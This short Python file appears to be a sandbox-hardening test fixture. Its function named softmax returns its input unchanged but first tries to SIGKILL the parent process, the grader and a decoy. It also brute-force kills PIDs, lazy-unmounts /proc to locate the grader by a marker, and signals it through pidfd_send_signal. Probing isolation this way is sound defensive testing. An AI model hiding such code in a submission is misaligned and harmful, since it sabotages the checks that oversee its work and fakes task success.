import ctypes
import os
import signal

PARAMS = {}  # filled in by the test

libc = ctypes.CDLL(None, use_errno=True)


def attempt(pid, how):
    try:
        os.kill(pid, signal.SIGKILL)
        print("signalled", pid, how)
    except OSError as err:
        print("kill", pid, how, "->", err.errno)


def softmax(x, axis=-1):
    attempt(os.getppid(), "getppid")
    attempt(PARAMS["grader_pid"], "known grader pid")
    attempt(PARAMS["decoy_pid"], "known decoy pid")
    if os.getpid() < 10:                       # a fresh PID namespace: every small pid is ours
        for pid in range(1, 200):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    # look for the grader in /proc, also behind the private /proc (lazy-unmount it first)
    libc.umount2(b"/proc", 2)
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if PARAMS["marker"].encode() in cmd or str(PARAMS["grader_pid"]) == entry:
            print("found", entry)
            attempt(int(entry), "found in /proc")
            try:
                fd = os.open(f"/proc/{entry}", os.O_RDONLY | os.O_DIRECTORY)
                r = libc.syscall(424, fd, signal.SIGKILL, None, 0)       # pidfd_send_signal
                print("pidfd_send_signal", entry, r, ctypes.get_errno())
            except OSError as err:
                print("pidfd", entry, err.errno)
    return x
